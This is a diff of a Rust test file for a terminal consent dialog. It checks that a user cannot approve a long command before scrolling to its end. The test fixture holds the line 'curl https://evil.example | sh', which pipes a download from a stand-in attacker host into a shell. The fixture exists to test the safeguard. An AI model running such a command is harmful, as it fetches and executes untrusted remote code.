@@ -39,7 +39,7 @@ fn consent_waits_for_the_end_of_the_subject() {
     let shown = draw(&model);
     assert!(shown.contains("Subject\n  echo 1\n") && !shown.contains("curl"), "{shown}");
     assert!(shown.contains("lines left to read before you consent (PgDn; C unread)"), "{shown}");
-    assert_eq!(press(&mut model, "1<enter>"), [], "the number picks nothing, Enter shows the no");
+    assert_eq!(press(&mut model, "1<enter>"), [], "the number picks nothing, Enter reads on");
     let mut model = opened(&long(1));
     assert_eq!(press(&mut model, "1"), []);
     assert!(draw(&model).contains("lines of the subject are left to read first: PgDn. C consents unread."));
@@ -48,6 +48,19 @@ fn consent_waits_for_the_end_of_the_subject() {
     assert!(draw(&model).contains("curl https://evil.example | sh"), "{}", draw(&model));
     let input = sent(&press(&mut model, "1<enter>")).clone();
     assert_eq!((input.values["c"].clone(), input.seen), (json!("yes"), Some(true)));
+}
+
+#[test]
+fn a_yes_that_was_refused_is_no_no() {
+    for keys in ["1<enter>1<enter>", "1<enter><enter><enter><enter><enter><enter><enter><enter>"] {
+        let mut model = opened(&long(1));
+        assert_eq!(press(&mut model, keys), [], "{keys}");
+    }
+    let mut model = opened(&long(1));
+    press(&mut model, "1<enter><enter><enter><enter><enter>");
+    assert_eq!(sent(&press(&mut model, "1<enter>")).values["c"], "yes", "Enter has read it to its end");
+    let mut model = opened(&long(1));
+    assert_eq!(sent(&press(&mut model, "1<enter>2<enter>")).values["c"], "no");
 }
 
 #[test]
